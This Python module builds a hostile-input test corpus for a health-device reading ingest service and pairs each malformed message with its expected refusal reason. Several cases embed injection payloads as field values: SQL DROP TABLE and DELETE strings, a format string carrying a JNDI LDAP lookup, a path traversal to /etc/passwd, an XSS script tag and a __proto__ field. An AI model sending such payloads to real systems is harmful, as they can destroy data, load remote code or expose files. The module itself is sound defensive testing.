"""The hostile-input corpus: messages a device (or an attacker holding a device's credentials) may send, each with
the exact refusals the wire contract (docs/protocol.md) requires.

Two sources:
- data files under `hostile/<reason>/` (raw bytes: malformed JSON in the categories of JSONTestSuite's `n_` cases,
  invalid UTF-8, non-object documents); the directory names the expected message-level reason;
- cases built here, relative to the arrival time (timestamps), the limits (sizes) and the device (unknown,
  revoked, unassigned): wrong types and fields, NaN/Infinity, huge numbers, deep nesting, lone surrogates, NUL
  and control characters, SQL and format-string text, ancient/future/naive timestamps, impossible values.

Every case is refused entirely: a message-level reason, or one reading-level refusal per reading.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Literal

from ingest.admission import Limits
from ingest.rejection import RejectionReason as R

HOSTILE_DIR = Path(__file__).parent / "hostile"
DeviceKind = Literal["assigned", "unassigned", "unknown", "revoked"]
# Known ingest defects: case name -> what goes wrong. Each is xfail(strict) in the pure test until fixed.
# (timestamp_year_1_east_offset and timestamp_year_9999_west_offset: fixed in ingest.admission, which now compares
# the timestamp with the limits before converting it to UTC.)
KNOWN_DEFECTS: dict[str, str] = {}


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile message and what ingest must do with it.

    Attributes:
        refusals: the expected (reason, reading_index) pairs; reading_index None for a whole-message refusal.
        device: which device sends it (its registry state decides unknown/revoked/unassigned refusals).
    """

    name: str
    payload: bytes
    refusals: tuple[tuple[R, int | None], ...]
    device: DeviceKind = "assigned"


def from_files() -> Iterator[Case]:
    for directory in sorted(p for p in HOSTILE_DIR.iterdir() if p.is_dir()):
        reason = R(directory.name)
        for path in sorted(directory.glob("*.json")):
            yield Case(f"{directory.name}/{path.stem}", path.read_bytes(), ((reason, None),))


def _ts(at: datetime) -> str:
    return at.astimezone(UTC).isoformat().replace("+00:00", "Z")


class _Builder:
    def __init__(self, now: datetime, limits: Limits) -> None:
        self.now = now
        self.limits = limits
        self.recent = _ts(now - timedelta(minutes=2))
        self.cases: list[Case] = []

    def reading(self, **fields: Any) -> dict[str, Any]:
        base: dict[str, Any] = {"type": "heart_rate", "value": 72, "unit": "/min", "measured_at": self.recent}
        base.update(fields)
        return {k: v for k, v in base.items() if v is not _DROP}

    def message(self, *readings: dict[str, Any], **fields: Any) -> dict[str, Any]:
        body: dict[str, Any] = {"message_id": f"h-{len(self.cases)}", "readings": list(readings) or [self.reading()]}
        body.update(fields)
        return {k: v for k, v in body.items() if v is not _DROP}

    def raw(self, name: str, payload: bytes, *refusals: tuple[R, int | None], device: DeviceKind = "assigned") -> None:
        self.cases.append(Case(name, payload, tuple(refusals), device))

    def add(self, name: str, body: Any, *refusals: tuple[R, int | None], device: DeviceKind = "assigned") -> None:
        # ASCII with \u escapes: lone surrogates and NUL stay JSON escapes inside valid UTF-8.
        self.raw(name, json.dumps(body).encode(), *refusals, device=device)

    def message_refused(self, name: str, reason: R, body: Any, device: DeviceKind = "assigned") -> None:
        self.add(name, body, (reason, None), device=device)

    def reading_refused(self, name: str, reason: R, **fields: Any) -> None:
        self.add(name, self.message(self.reading(**fields)), (reason, 0))


_DROP = object()
SQL = "heart_rate'; DROP TABLE vital_readings; --"
FORMAT = "%s%s%s%n%x{0}{type}${jndi:ldap://x/a}"


def generated(now: datetime, limits: Limits) -> list[Case]:
    b = _Builder(now, limits)
    m, r = b.message, b.reading
    good = json.dumps(m()).encode()

    # --- sizes and nesting --------------------------------------------------------------------------------------
    limit = limits.max_payload_bytes
    b.raw("size_limit_plus_one", good + b" " * (limit + 1 - len(good)), (R.PAYLOAD_TOO_LARGE, None))
    b.raw("size_200k_of_a", b"A" * 200_000, (R.PAYLOAD_TOO_LARGE, None))
    b.raw("size_200k_array", b"[" + b"1," * 99_999 + b"1]", (R.PAYLOAD_TOO_LARGE, None))
    b.raw("size_readings_padding", json.dumps(m(*[r()] * 1000)).encode(), (R.PAYLOAD_TOO_LARGE, None))
    depth = min(limit // 2 - 2, 30_000)
    b.raw("nesting_arrays", b"[" * depth + b"]" * depth, (R.INVALID_JSON, None))
    b.raw("nesting_objects", b'{"a":' * (limit // 7) + b"1" + b"}" * (limit // 7), (R.INVALID_JSON, None))
    meta = good[:-1] + b',"meta":' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    b.raw("nesting_meta", meta, (R.INVALID_JSON, None))

    # --- message structure and field types ------------------------------------------------------------------------
    refuse = b.message_refused
    refuse("missing_message_id", R.INVALID_MESSAGE, m(message_id=_DROP))
    refuse("missing_readings", R.INVALID_MESSAGE, m(readings=_DROP))
    refuse("empty_object", R.INVALID_MESSAGE, {})
    refuse("extra_top_level_field", R.INVALID_MESSAGE, m(patient_id="someone-else"))
    refuse("extra_field_organization", R.INVALID_MESSAGE, m(organization_id="00000000-0000-0000-0000-000000000000"))
    refuse("extra_field_proto", R.INVALID_MESSAGE, m(__proto__={"admin": True}))
    refuse("extra_reading_field", R.INVALID_MESSAGE, m(r(patient_id="x")))
    refuse("extra_reading_field_device", R.INVALID_MESSAGE, m(r(device_id="cuff-0002")))
    for field in ("type", "value", "unit", "measured_at"):
        refuse(f"reading_missing_{field}", R.INVALID_MESSAGE, m(r(**{field: _DROP})))
        refuse(f"reading_{field}_null", R.INVALID_MESSAGE, m(r(**{field: None})))
        refuse(f"reading_{field}_array", R.INVALID_MESSAGE, m(r(**{field: [72]})))
        refuse(f"reading_{field}_object", R.INVALID_MESSAGE, m(r(**{field: {"v": 72}})))
    refuse("value_string", R.INVALID_MESSAGE, m(r(value="72")))
    refuse("value_string_nan", R.INVALID_MESSAGE, m(r(value="NaN")))
    refuse("value_true", R.INVALID_MESSAGE, m(r(value=True)))
    refuse("value_false", R.INVALID_MESSAGE, m(r(value=False)))
    refuse("type_number", R.INVALID_MESSAGE, m(r(type=8867)))
    refuse("type_bool", R.INVALID_MESSAGE, m(r(type=True)))
    refuse("unit_number", R.INVALID_MESSAGE, m(r(unit=1)))
    refuse("measured_at_epoch_number", R.INVALID_MESSAGE, m(r(measured_at=int(now.timestamp()))))
    refuse("measured_at_epoch_millis", R.INVALID_MESSAGE, m(r(measured_at=int(now.timestamp() * 1000))))
    refuse("readings_object", R.INVALID_MESSAGE, m(readings=r()))
    refuse("readings_string", R.INVALID_MESSAGE, m(readings="[]"))
    refuse("readings_null", R.INVALID_MESSAGE, m(readings=None))
    refuse("reading_is_array", R.INVALID_MESSAGE, m(readings=[[72]]))
    refuse("reading_is_string", R.INVALID_MESSAGE, m(readings=["heart_rate 72"]))
    refuse("reading_is_null", R.INVALID_MESSAGE, m(readings=[None]))
    refuse("reading_is_number", R.INVALID_MESSAGE, m(readings=[72]))
    refuse("one_bad_reading_shape_refuses_all", R.INVALID_MESSAGE, m(r(), {"type": "heart_rate"}))
    refuse("meta_array", R.INVALID_MESSAGE, m(meta=[1, 2]))
    refuse("meta_string", R.INVALID_MESSAGE, m(meta="firmware 2"))
    refuse("meta_number", R.INVALID_MESSAGE, m(meta=1))
    refuse("meta_null", R.INVALID_MESSAGE, m(meta=None))
    refuse("meta_nul_char", R.INVALID_MESSAGE, m(meta={"firmware": "2.4\u0000"}))
    refuse("meta_nul_key", R.INVALID_MESSAGE, m(meta={"\u0000": 1}))
    refuse("meta_lone_surrogate", R.INVALID_MESSAGE, m(meta={"firmware": "\ud800"}))
    refuse("meta_lone_low_surrogate_key", R.INVALID_MESSAGE, m(meta={"\udc00": 1}))
    refuse("meta_too_large", R.INVALID_MESSAGE, m(meta={"blob": "x" * limits.max_meta_bytes}))
    refuse("sent_at_null", R.INVALID_MESSAGE, m(sent_at=None))
    refuse("sent_at_number", R.INVALID_MESSAGE, m(sent_at=1764057600))
    refuse("sent_at_naive", R.INVALID_MESSAGE, m(sent_at="2026-11-25T08:00:00"))
    refuse("sent_at_garbage", R.INVALID_MESSAGE, m(sent_at="yesterday"))
    refuse("sent_at_sql", R.INVALID_MESSAGE, m(sent_at="2026-11-25T08:00:00Z'; DROP TABLE devices;--"))
    refuse("message_id_number", R.INVALID_MESSAGE, m(message_id=12345))
    refuse("message_id_null", R.INVALID_MESSAGE, m(message_id=None))
    refuse("message_id_array", R.INVALID_MESSAGE, m(message_id=["m-1"]))
    # A lone surrogate is not Unicode text at all: the field is mistyped rather than a badly spelled id.
    refuse("message_id_lone_surrogate", R.INVALID_MESSAGE, m(message_id="m-\ud800"))

    # --- message ids and counts -------------------------------------------------------------------------------
    for name, value in {
        "empty": "",
        "too_long": "m" * 65,
        "space": "m 1",
        "slash": "devices/x/readings",
        "path_traversal": "../../etc/passwd",
        "sql": "m-1'; DELETE FROM vital_readings; --",
        "format_string": FORMAT,
        "nul": "m-1\u0000",
        "newline": "m-1\nm-2",
        "emoji": "m-\U0001f600",
        "non_ascii_letter": "m-\u00e9",
        "html": "<script>alert(1)</script>",
        "wildcard": "m-#",
        "plus": "m+1",
    }.items():
        refuse(f"message_id_{name}", R.BAD_MESSAGE_ID, m(message_id=value))
    refuse("readings_empty", R.BAD_READING_COUNT, m(readings=[]))
    refuse(
        "readings_501",
        R.BAD_READING_COUNT,
        m(readings=[r(measured_at=_ts(now - timedelta(seconds=i))) for i in range(501)]),
    )

    # --- devices ----------------------------------------------------------------------------------------------
    refuse("unknown_device", R.UNKNOWN_DEVICE, m(), device="unknown")
    refuse("unknown_device_bad_values_too", R.UNKNOWN_DEVICE, m(r(value=10_000)), device="unknown")
    refuse("revoked_device", R.REVOKED_DEVICE, m(), device="revoked")
    refuse("revoked_device_bad_values_too", R.REVOKED_DEVICE, m(r(type=SQL)), device="revoked")

    # --- readings: type and unit -------------------------------------------------------------------------------
    one = b.reading_refused
    for name, value in {
        "empty": "",
        "uppercase": "HEART_RATE",
        "space": "heart rate",
        "sql": SQL,
        "format_string": FORMAT,
        "nul": "heart_rate\u0000",
        "lone_surrogate": "\ud800",
        "control_char": "heart\u0001rate",
        "loinc_typo": "8867-5",
        "loinc_no_check_digit": "8867",
        "cyrillic_homoglyph": "h\u0435art_rate",
        "zero_width_joiner": "heart\u200d_rate",
        "very_long": "x" * 10_000,
        "proto": "__proto__",
        "trailing_space": "heart_rate ",
    }.items():
        one(f"type_{name}", R.UNKNOWN_TYPE, type=value)
    for name, value in {
        "bpm": "bpm",
        "empty": "",
        "not_ucum": "mmHg",
        "uppercase": "/MIN",
        "other_types_unit": "kg",
        "percent": "%",
        "trailing_space": "/min ",
        "nul": "/min\u0000",
        "sql": "/min'; DROP TABLE vital_types; --",
        "format_string": FORMAT,
    }.items():
        one(f"unit_{name}", R.UNIT_MISMATCH, unit=value)
    one("unit_fahrenheit_for_heart_rate", R.UNIT_MISMATCH, unit="[degF]")

    # --- readings: numbers -------------------------------------------------------------------------------------
    b.raw("value_overflowing_float", json.dumps(m(r(value=72))).replace("72,", "1e400,").encode(), (R.NON_FINITE, 0))
    b.raw("value_negative_overflow", json.dumps(m(r(value=72))).replace("72,", "-1e999,").encode(), (R.NON_FINITE, 0))
    one("value_huge_integer", R.OUT_OF_RANGE, value=10**400)
    one("value_huge_negative_integer", R.OUT_OF_RANGE, value=-(10**400))
    long_one = "1" + "0" * 4400 + "e-4400"  # a valid JSON number: 1, with 4,400 digits to parse
    b.raw("value_4400_digit_mantissa", json.dumps(m(r(value=72))).replace("72,", long_one + ",").encode(),
          (R.IMPLAUSIBLE_VALUE, 0))  # fmt: skip
    one("value_canonical_overflow", R.OUT_OF_RANGE, type="blood_glucose", unit="mmol/L", value=1e307)
    implausible: dict[str, dict[str, Any]] = {
        "heart_rate_zero": {"value": 0},
        "heart_rate_negative": {"value": -72},
        "heart_rate_301": {"value": 301},
        "heart_rate_max_float": {"value": 1.7976931348623157e308},
        "heart_rate_tiny": {"value": 5e-324},
        "heart_rate_int64_max": {"value": 2**63 - 1},
        "spo2_101": {"type": "spo2", "unit": "%", "value": 101},
        "spo2_negative_zero": {"type": "spo2", "unit": "%", "value": -0.0},
        "temperature_100_cel": {"type": "body_temperature", "unit": "Cel", "value": 100},
        "temperature_boiling_f": {"type": "body_temperature", "unit": "[degF]", "value": 212},
        "temperature_absolute_zero": {"type": "body_temperature", "unit": "Cel", "value": -273.15},
        "weight_zero": {"type": "body_weight", "unit": "kg", "value": 0},
        "weight_ton": {"type": "body_weight", "unit": "kg", "value": 1000},
        "weight_grams_as_kg": {"type": "body_weight", "unit": "g", "value": 70},
        "glucose_zero": {"type": "blood_glucose", "unit": "mg/dL", "value": 0},
        "systolic_1000": {"type": "systolic_bp", "unit": "mm[Hg]", "value": 1000},
        "respiratory_zero": {"type": "respiratory_rate", "unit": "/min", "value": 0},
    }
    for name, fields in implausible.items():
        one(f"implausible_{name}", R.IMPLAUSIBLE_VALUE, **fields)

    # --- readings: timestamps ----------------------------------------------------------------------------------
    for name, value in {
        "naive": "2026-11-25T08:00:00",
        "date_only": "2026-11-25",
        "epoch_string": str(int(now.timestamp())),
        "space_separator": "2026-11-25 08:00:00Z",
        "february_30": "2026-02-30T08:00:00Z",
        "month_13": "2026-13-01T08:00:00Z",
        "hour_24": "2026-11-25T24:00:00Z",
        "minute_60": "2026-11-25T08:60:00Z",
        "offset_25h": "2026-11-25T08:00:00+25:00",
        "offset_no_colon": "2026-11-25T08:00:00+0100",
        "fraction_10_digits": "2026-11-25T08:00:00.1234567891Z",
        "empty": "",
        "now_word": "now",
        "year_five_digits": "+10000-01-01T00:00:00Z",
        "week_date": "2026-W48-3T08:00:00Z",
        "ordinal_date": "2026-329T08:00:00Z",
        "sql": "2026-11-25T08:00:00Z'; DROP TABLE vital_readings; --",
        "nul": "2026-11-25T08:00:00Z\u0000",
        "format_string": FORMAT,
        "two_offsets": "2026-11-25T08:00:00Z+01:00",
    }.items():
        one(f"timestamp_{name}", R.BAD_TIMESTAMP, measured_at=value)
    one("timestamp_six_minutes_ahead", R.FUTURE_TIMESTAMP, measured_at=_ts(now + timedelta(minutes=6)))
    one("timestamp_next_year", R.FUTURE_TIMESTAMP, measured_at=_ts(now + timedelta(days=365)))
    one("timestamp_year_9999", R.FUTURE_TIMESTAMP, measured_at="9999-12-31T23:59:59Z")
    # The wall-clock time of arrival, but 12 hours west: twelve hours ahead in UTC.
    one("timestamp_future_by_offset", R.FUTURE_TIMESTAMP, measured_at=now.strftime("%Y-%m-%dT%H:%M:%S") + "-12:00")
    one("timestamp_31_days_old", R.STALE_TIMESTAMP, measured_at=_ts(now - timedelta(days=31)))
    one("timestamp_unix_epoch", R.STALE_TIMESTAMP, measured_at="1970-01-01T00:00:00Z")
    one("timestamp_year_1", R.STALE_TIMESTAMP, measured_at="0001-01-01T00:00:00Z")
    one("timestamp_year_1900", R.STALE_TIMESTAMP, measured_at="1900-01-01T00:00:00+01:00")
    one("timestamp_year_1_east_offset", R.STALE_TIMESTAMP, measured_at="0001-01-01T00:00:00+14:00")
    one("timestamp_year_9999_west_offset", R.FUTURE_TIMESTAMP, measured_at="9999-12-31T23:59:59-14:00")

    # --- readings: the device's assignment and cross-field rules ---------------------------------------------
    b.add("unassigned_device", m(), (R.UNASSIGNED_DEVICE, 0), device="unassigned")
    b.add(
        "unassigned_device_two_readings",
        m(r(), r(type="spo2", unit="%", value=97)),
        (R.UNASSIGNED_DEVICE, 0),
        (R.UNASSIGNED_DEVICE, 1),
        device="unassigned",
    )
    bp = {"unit": "mm[Hg]", "measured_at": b.recent}
    b.add(
        "diastolic_above_systolic",
        m(r(type="systolic_bp", value=80, **bp), r(type="diastolic_bp", value=120, **bp)),
        (R.CROSS_FIELD, 0),
        (R.CROSS_FIELD, 1),
    )
    b.add(
        "diastolic_equals_systolic",
        m(r(type="8480-6", value=100, **bp), r(type="8462-4", value=100, **bp)),
        (R.CROSS_FIELD, 0),
        (R.CROSS_FIELD, 1),
    )
    b.add(
        "every_reading_bad_differently",
        m(r(type=SQL), r(unit="bpm"), r(value=0), r(measured_at="2026-11-25T08:00:00")),
        (R.UNKNOWN_TYPE, 0),
        (R.UNIT_MISMATCH, 1),
        (R.IMPLAUSIBLE_VALUE, 2),
        (R.BAD_TIMESTAMP, 3),
    )
    return b.cases


def corpus(now: datetime, limits: Limits) -> list[Case]:
    """Every hostile case, with timestamps relative to `now` (the arrival time ingest will stamp)."""
    cases = [*from_files(), *generated(now, limits)]
    names = [c.name for c in cases]
    assert len(set(names)) == len(names), "case names must be unique"
    return cases
